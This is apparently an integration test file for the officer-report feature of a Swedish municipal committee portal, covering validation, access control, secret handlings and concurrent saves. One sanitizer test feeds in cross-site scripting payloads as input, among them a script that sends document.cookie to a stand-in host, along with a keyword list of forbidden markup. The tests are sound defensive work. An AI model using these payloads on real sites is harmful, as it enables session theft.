using Microsoft.EntityFrameworkCore;
using Microsoft.EntityFrameworkCore.Diagnostics;
using Nämndportal.Application.Cases;
using Nämndportal.Application.Common;
using Nämndportal.Infrastructure.RichText;
using Nämndportal.Domain.Cases;
using Nämndportal.IntegrationTests.Support;

namespace Nämndportal.IntegrationTests.Cases;

public class OfficerReportTests(DatabaseFixture database) : IntegrationTest(database)
{
    [Fact]
    public async Task A_new_report_is_a_draft_prefilled_with_the_organ_the_officer_and_today()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);

        var draft = (await s.Get(s.Officer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!;

        draft.IsSaved.ShouldBeFalse();
        draft.CanEdit.ShouldBeTrue();
        draft.CaseNumber.ShouldBe("OMF-2026-12");
        draft.Administration.ShouldBe("Omsorgsförvaltningen");
        draft.OfficerName.ShouldBe("Hanna Handläggare");
        draft.OfficerEmail.ShouldBe("hanna.handlaggare@exempelby.se");
        draft.ReportDate.ShouldBe(OfficerReportScenario.Today);
        draft.Consequences.Select(c => c.Heading).ShouldBe(["Ekonomi", "Barnperspektiv"]);
        draft.Documents.Select(d => d.Ordinal).ShouldBe([1, 2, 3], "the case's own handläggare may choose the secret handling");
    }

    [Fact]
    public async Task Saved_report_reads_back_with_numbered_proposals_sections_and_a_timeline_event()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var request = await DraftAsync(s, s.Officer);
        request.Proposals = ["godkänna planen för äldreomsorgens platser", "att uppdra åt förvaltningen att återrapportera i juni 2027", "  "];
        request.SummaryHtml = "<p>Förvaltningen föreslår <strong>tolv</strong> nya platser.</p>";
        request.DescriptionHtml = "<h3>Bakgrund</h3><ul><li>Kön har vuxit</li></ul><table><tr><th>År</th><th>Platser</th></tr><tr><td>2027</td><td>12</td></tr></table>";
        request.DecisionBasis = [s.Queue.Id, s.Report.Id];
        request.Consequences[0].Html = "<p>Kostnaden ryms i budgeten.</p>";
        request.DispatchTo = ["Vård och omsorg", "", "Akten"];
        request.OfficerTitle = "Utredare";
        request.OfficerPhone = "0240-123 45";

        var saved = await s.Save(s.Officer).HandleAsync(request);

        saved.Succeeded.ShouldBeTrue(saved.Error?.Message);
        saved.Value!.FormattingRemoved.ShouldBeFalse();
        saved.Value.Message.ShouldBe("Tjänsteskrivelsen är sparad.");
        var report = (await s.Get(s.Officer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!;
        report.IsSaved.ShouldBeTrue();
        report.Version.ShouldBe(saved.Value.Version);
        report.Proposals.ShouldBe(["godkänna planen för äldreomsorgens platser", "uppdra åt förvaltningen att återrapportera i juni 2027"]);
        report.SummaryHtml.ShouldBe("<p>Förvaltningen föreslår <strong>tolv</strong> nya platser.</p>");
        report.DescriptionHtml.ShouldContain("<td>12</td>");
        report.DecisionBasis.ShouldBe([s.Report.Id, s.Queue.Id], "in the order of the handlingar's numbers");
        report.DecisionBasisLines.Select(l => l.Text).ShouldBe(
            ["Handling 1, 2026-11-20, Tjänsteskrivelse om platserna", "Handling 2, 2026-11-14, Kösituationen i november"]);
        report.Consequences.ShouldBe([new ConsequenceText("Ekonomi", "<p>Kostnaden ryms i budgeten.</p>"), new ConsequenceText("Barnperspektiv", "")]);
        report.DispatchTo.ShouldBe(["Vård och omsorg", "Akten"]);
        (report.OfficerName, report.OfficerTitle, report.OfficerPhone).ShouldBe(("Hanna Handläggare", "Utredare", "0240-123 45"));

        await using var db = Database.CreateContext();
        (await db.CaseEvents.SingleAsync(e => e.CaseId == s.Case.Id)).Kind.ShouldBe(CaseEventKind.ReportSaved);
        (await db.AuditTrail.CountAsync(a => a.CaseId == s.Case.Id && a.EntityType == nameof(OfficerReport))).ShouldBe(1);
        var searchText = await db.OfficerReports.Where(r => r.CaseId == s.Case.Id).Select(r => r.SearchText).SingleAsync();
        searchText.ShouldContain("att godkänna planen");
        searchText.ShouldContain("Kostnaden ryms i budgeten");
        searchText.ShouldNotContain("<");
    }

    [Fact]
    public async Task Script_onclick_and_javascript_link_are_stripped_and_the_user_is_told()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var request = await DraftAsync(s, s.Officer);
        request.SummaryHtml = "<p onclick=\"stjäl()\">Sammanfattning<script>fetch('https://ond.example/'+document.cookie)</script></p>";
        request.DescriptionHtml = "<p><a href=\"javascript:alert(1)\">Klicka här</a> och <a href=\"https://www.exempelby.se/plan\">planen</a></p>"
                                  + "<img src=x onerror=alert(2)><p style=\"color:red\" class=\"x\">Röd</p>";
        request.Consequences[1].Html = "<p>Barnen <a href=\"data:text/html,<script>alert(3)</script>\">data</a></p>";

        var saved = await s.Save(s.Officer).HandleAsync(request);

        saved.Value!.FormattingRemoved.ShouldBeTrue();
        saved.Value.Message.ShouldBe("Tjänsteskrivelsen är sparad. Otillåten formatering togs bort.");
        await using var db = Database.CreateContext();
        var stored = await db.OfficerReports.SingleAsync(r => r.CaseId == s.Case.Id);
        stored.SummaryHtml.ShouldBe("<p>Sammanfattning</p>");
        stored.DescriptionHtml.ShouldBe(
            "<p>Klicka här och <a href=\"https://www.exempelby.se/plan\" rel=\"noopener noreferrer\">planen</a></p><p>Röd</p>");
        stored.Consequences.Single().Html.ShouldBe("<p>Barnen data</p>");
        var everything = stored.SummaryHtml + stored.DescriptionHtml + stored.Consequences.Single().Html + stored.SearchText;
        foreach (var bad in new[] { "script", "onclick", "onerror", "javascript:", "data:", "style", "cookie", "alert" })
        {
            everything.ShouldNotContain(bad, Shouldly.Case.Insensitive);
        }
    }

    [Fact]
    public async Task A_draft_without_proposals_can_be_saved_but_a_too_long_proposal_or_a_bad_email_cannot()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var draft = await DraftAsync(s, s.Officer);
        (await s.Save(s.Officer).HandleAsync(draft)).Succeeded.ShouldBeTrue("a draft needs no att-sats");

        var tooLong = await DraftAsync(s, s.Officer);
        tooLong.Proposals = ["godkänna " + new string('x', 1995)];
        tooLong.OfficerEmail = "hanna.exempelby.se";
        var refused = await s.Save(s.Officer).HandleAsync(tooLong);

        refused.Error!.Code.ShouldBe("validation");
        refused.Error.Message.ShouldContain("En att-sats får ha högst 2 000 tecken");
        refused.Error.Message.ShouldContain("Ange en giltig e-postadress");
        await using var db = Database.CreateContext();
        (await db.OfficerReports.SingleAsync()).Proposals.ShouldBeEmpty("nothing of the refused save is stored");
    }

    [Fact]
    public async Task A_ledamot_reads_the_report_but_cannot_save_it()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var request = await DraftAsync(s, s.Officer);
        request.Proposals = ["godkänna planen"];
        (await s.Save(s.Officer).HandleAsync(request)).Succeeded.ShouldBeTrue();

        var read = (await s.Get(s.Member).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!;
        read.CanEdit.ShouldBeFalse();
        read.Proposals.ShouldBe(["godkänna planen"]);

        var attempt = SaveOfficerReport.From(read);
        attempt.Proposals = ["avslå planen"];
        (await s.Save(s.Member).HandleAsync(attempt)).Error!.Code.ShouldBe("forbidden");
        await using var db = Database.CreateContext();
        (await db.OfficerReports.SingleAsync()).Proposals.ShouldBe(["godkänna planen"]);
    }

    [Fact]
    public async Task A_member_of_another_organ_is_told_the_case_does_not_exist()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);

        var read = await s.Get(s.Outsider).HandleAsync(new GetOfficerReport(s.Case.Id));
        var save = await s.Save(s.Outsider).HandleAsync(new SaveOfficerReport { CaseId = s.Case.Id, Proposals = ["x"] });
        var pdf = await new StartOfficerReportPdfHandler(s.Factory(s.Outsider), s.Access(s.Outsider), s.Outsider, new RecordingJobScheduler())
            .HandleAsync(new StartOfficerReportPdf(s.Case.Id));

        read.Error!.Code.ShouldBe("not_found");
        read.Error.Message.ShouldBe("Ärendet finns inte, eller så saknar du behörighet att se det.");
        save.Error!.Code.ShouldBe("not_found");
        pdf.Error!.Code.ShouldBe("not_found");
    }

    [Fact]
    public async Task A_handling_of_another_case_is_refused_as_decision_basis()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var request = await DraftAsync(s, s.Officer);
        request.DecisionBasis = [s.Queue.Id, s.OtherCasesDocument.Id];

        var result = await s.Save(s.Officer).HandleAsync(request);

        result.Error!.Message.ShouldBe("Beslutsunderlaget får bara innehålla handlingar i det här ärendet.");
        await using var db = Database.CreateContext();
        (await db.OfficerReports.CountAsync()).ShouldBe(0);
        (await db.CaseEvents.CountAsync()).ShouldBe(0);
    }

    [Fact]
    public async Task A_heading_the_organ_does_not_have_is_refused()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var request = await DraftAsync(s, s.Officer);
        request.Consequences.Add(new ConsequenceInput { Heading = "Påhittad rubrik", Html = "<p>Text</p>" });

        (await s.Save(s.Officer).HandleAsync(request)).Error!.Message.ShouldBe("Konsekvensbeskrivningarna får bara ha organets rubriker.");
    }

    [Fact]
    public async Task A_secret_handling_is_neither_offered_nor_described_to_someone_without_secret_access_and_survives_their_save()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var request = await DraftAsync(s, s.Officer);
        request.DecisionBasis = [s.Report.Id, s.Secret.Id];
        (await s.Save(s.Officer).HandleAsync(request)).Succeeded.ShouldBeTrue();

        // Olle prepares the organ's cases but is not this case's handläggare: no access to its secret handlingar.
        var olles = (await s.Get(s.OtherOfficer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!;
        olles.CanEdit.ShouldBeTrue();
        olles.Documents.Select(d => d.Ordinal).ShouldBe([1, 2]);
        olles.DecisionBasis.ShouldBe([s.Report.Id]);
        olles.DecisionBasisLines.Select(l => l.Text).ShouldBe(
            ["Handling 1, 2026-11-20, Tjänsteskrivelse om platserna", "Handling 3 (sekretess enligt OSL 26 kap. 1 §)"]);
        var lars = (await s.Get(s.Member).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!;
        string.Concat(lars.Documents.Select(d => d.Description).Concat(lars.DecisionBasisLines.Select(l => l.Text))).ShouldNotContain("Sven Svensson");

        var edit = SaveOfficerReport.From(olles);
        edit.DecisionBasis = [s.Report.Id, s.Queue.Id];
        (await s.Save(s.OtherOfficer).HandleAsync(edit)).Succeeded.ShouldBeTrue();
        await using (var db = Database.CreateContext())
        {
            (await db.OfficerReports.SingleAsync()).DecisionBasis.ShouldBe([s.Report.Id, s.Queue.Id, s.Secret.Id], "a handling he cannot see is kept, not dropped");
        }

        var sneaky = SaveOfficerReport.From((await s.Get(s.OtherOfficer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!);
        sneaky.DecisionBasis = [s.Secret.Id];
        (await s.Save(s.OtherOfficer).HandleAsync(sneaky)).Error!.Message.ShouldBe("Beslutsunderlaget får bara innehålla handlingar i det här ärendet.");
    }

    [Fact]
    public async Task A_save_over_a_newer_version_is_refused_and_names_who_saved_it()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        (await s.Save(s.Officer).HandleAsync(await DraftAsync(s, s.Officer))).Succeeded.ShouldBeTrue();
        var hannas = SaveOfficerReport.From((await s.Get(s.Officer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!);
        var olles = SaveOfficerReport.From((await s.Get(s.OtherOfficer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!);

        olles.Proposals = ["avslå planen"];
        (await s.Save(s.OtherOfficer).HandleAsync(olles)).Succeeded.ShouldBeTrue();
        hannas.Proposals = ["godkänna planen"];
        var conflict = await s.Save(s.Officer).HandleAsync(hannas);

        conflict.Error!.Code.ShouldBe("conflict");
        conflict.Error.Message.ShouldStartWith("Uppgifterna har just ändrats av olle.handlaggare@exempelby.se (2026-11-22 11.00)");
        await using var db = Database.CreateContext();
        (await db.OfficerReports.SingleAsync()).Proposals.ShouldBe(["avslå planen"]);
        (await db.CaseEvents.CountAsync(e => e.Kind == CaseEventKind.ReportSaved)).ShouldBe(2, "the refused save leaves no event");
    }

    [Fact]
    public async Task Two_saves_of_the_same_version_at_the_same_moment_one_wins_and_the_other_is_told_who_changed_it()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        (await s.Save(s.Officer).HandleAsync(await DraftAsync(s, s.Officer))).Succeeded.ShouldBeTrue();
        var hannas = SaveOfficerReport.From((await s.Get(s.Officer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!);
        var olles = SaveOfficerReport.From((await s.Get(s.OtherOfficer).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!);
        olles.Version.ShouldBe(hannas.Version, "both forms were loaded from the same row");
        hannas.Proposals = ["godkänna planen"];
        olles.Proposals = ["avslå planen"];

        var (winner, loser) = await SaveAtTheSameMomentAsync(s, (s.Officer, hannas), (s.OtherOfficer, olles));

        loser.Result.Error!.Code.ShouldBe("conflict");
        loser.Result.Error.Message.ShouldBe($"Uppgifterna har just ändrats av {winner.User.UserName} (2026-11-22 11.00). Ladda om sidan och gör din ändring igen.");
        await using var db = Database.CreateContext();
        (await db.OfficerReports.SingleAsync()).Proposals.ShouldBe(winner.Request.Proposals);
        (await db.CaseEvents.CountAsync(e => e.Kind == CaseEventKind.ReportSaved)).ShouldBe(2, "the first save and the winner's; the refused save leaves none");
    }

    [Fact]
    public async Task Two_first_saves_of_the_same_draft_at_the_same_moment_store_one_report_and_the_other_is_told_who()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var first = await DraftAsync(s, s.Officer);
        var second = await DraftAsync(s, s.OtherOfficer);
        first.Proposals = ["godkänna planen"];
        second.Proposals = ["avslå planen"];

        var (winner, loser) = await SaveAtTheSameMomentAsync(s, (s.Officer, first), (s.OtherOfficer, second));

        loser.Result.Error!.Code.ShouldBe("conflict");
        loser.Result.Error.Message.ShouldBe($"Uppgifterna har just ändrats av {winner.User.UserName} (2026-11-22 11.00). Ladda om sidan och gör din ändring igen.");
        await using var db = Database.CreateContext();
        (await db.OfficerReports.SingleAsync()).Proposals.ShouldBe(winner.Request.Proposals);
        (await db.CaseEvents.CountAsync(e => e.Kind == CaseEventKind.ReportSaved)).ShouldBe(1);
    }

    /// <summary>
    /// Runs both saves at once: each handler reads what it needs, then waits at the database's door until the other has
    /// arrived too, and both send their write together. Exactly one may succeed.
    /// </summary>
    private static async Task<(Attempt Winner, Attempt Loser)> SaveAtTheSameMomentAsync(
        OfficerReportScenario s, (TestUser User, SaveOfficerReport Request) a, (TestUser User, SaveOfficerReport Request) b)
    {
        var rendezvous = new SaveRendezvous(2);
        var results = await Task.WhenAll(new[] { a, b }.Select(async x =>
        {
            var factory = s.Factory(x.User, rendezvous);
            var handler = new SaveOfficerReportHandler(factory, s.Access(x.User), new SaveOfficerReportValidator(), new RichTextSanitizer(), x.User, s.Clock);
            return new Attempt(x.User, x.Request, await handler.HandleAsync(x.Request));
        }));

        rendezvous.Arrived.ShouldBe(2, "both saves reached the database");
        results.Count(r => r.Result.Succeeded).ShouldBe(1, string.Join("; ", results.Select(r => r.Result.Error?.Message ?? "sparad")));
        return (results.Single(r => r.Result.Succeeded), results.Single(r => !r.Result.Succeeded));
    }

    private sealed record Attempt(TestUser User, SaveOfficerReport Request, Result<SavedOfficerReport> Result);

    /// <summary>Holds every save of a tjänsteskrivelse until <paramref name="parties"/> saves have come, then lets them all go at once.</summary>
    private sealed class SaveRendezvous(int parties) : SaveChangesInterceptor
    {
        private readonly TaskCompletionSource _all = new(TaskCreationOptions.RunContinuationsAsynchronously);
        private int _arrived;

        public int Arrived => _arrived;

        public override async ValueTask<InterceptionResult<int>> SavingChangesAsync(
            DbContextEventData eventData, InterceptionResult<int> result, CancellationToken cancellationToken = default)
        {
            if (eventData.Context!.ChangeTracker.Entries<OfficerReport>().Any())
            {
                if (Interlocked.Increment(ref _arrived) == parties)
                {
                    _all.SetResult();
                }

                await _all.Task.WaitAsync(TimeSpan.FromSeconds(30), cancellationToken);
            }

            return result;
        }
    }

    [Fact]
    public async Task A_pdf_can_be_asked_for_only_once_the_report_is_saved_and_is_started_as_the_users_task()
    {
        var s = await OfficerReportScenario.CreateAsync(Database);
        var jobs = new RecordingJobScheduler();
        var start = new StartOfficerReportPdfHandler(s.Factory(s.Member), s.Access(s.Member), s.Member, jobs);

        (await start.HandleAsync(new StartOfficerReportPdf(s.Case.Id))).Error!.Message.ShouldBe("Spara tjänsteskrivelsen innan du skapar en PDF av den.");
        (await s.Save(s.Officer).HandleAsync(await DraftAsync(s, s.Officer))).Succeeded.ShouldBeTrue();
        var taskId = (await start.HandleAsync(new StartOfficerReportPdf(s.Case.Id))).Value;

        jobs.Enqueued.ShouldHaveSingleItem().ShouldContain(nameof(RenderOfficerReportPdfJob));
        await using var db = Database.CreateContext();
        var task = await db.BackgroundTasks.SingleAsync(t => t.Id == taskId);
        task.RequestedByUserId.ShouldBe(s.Member.UserId);
        task.Title.ShouldBe("Tjänsteskrivelse OMF-2026-12 (PDF)");
    }

    private static async Task<SaveOfficerReport> DraftAsync(OfficerReportScenario s, TestUser user) =>
        SaveOfficerReport.From((await s.Get(user).HandleAsync(new GetOfficerReport(s.Case.Id))).Value!);
}
